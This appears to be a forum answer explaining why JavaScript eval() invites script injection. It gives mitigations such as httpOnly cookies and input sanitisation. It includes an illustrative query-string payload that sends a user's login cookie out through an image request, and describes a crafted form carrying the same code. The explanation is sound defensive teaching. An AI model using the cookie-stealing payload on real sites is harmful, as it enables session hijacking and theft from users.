Is Javascript eval() so dangerous? [duplicate]

You’re right that an end user can easily execute arbitrary JavaScript anyway via the browser’s developer console (I do this all the time). What you have to worry about is an attacker hijacking your feature that uses eval for his own ends.

The reason eval is generally considered dangerous is because it is very easy for untrusted code to sneak in. Consider a page that allows you specify input via query string, where the input box is prepopulated with the value in the query string.

An attacker could spread a link that contains code which steals a user’s login cookie:

/some/url?amount=var i=new Image();i.src="" + document.cookie;(Obviously proper URL encoding is required; this is for illustration.)

Or, perhaps your PHP script echos posted data back into your form when validation fails. An attacker could create a specially crafted form that posts to your form with the same cookie-stealing code.

Each of these attacks can be mitigated by using httpOnly cookies (to prevent stolen login cookies) or making sure that data is sanitized – but the point is this isn’t even close to an exhaustive list of how things can go wrong. For example, an injected script could still insert 1000 in the amount field and try to transfer that amount to the attacker’s account (if this is amoney transfer page).

Even given the fact that you’re using a regex to sanitize input doesn’t necessarily protect you: it’s possible to writearbitrary JavaScript entirely with brackets!

So the bottom line is that if you can make absolutely sure that the only way input makes its way into your text field is via user input, you’re fine: the user hasn’t gained anything they wouldn’t be able to do otherwise via the console. However, if an attacker can somehow get their own data into thatfield, evaling it may expose you toa vulnerability.

See also:

  • JavaScript to evaluatesimple math string like 5*1.2 (eval/white-list?)
  • JavaScript written only withbrackets?

Leave a Comment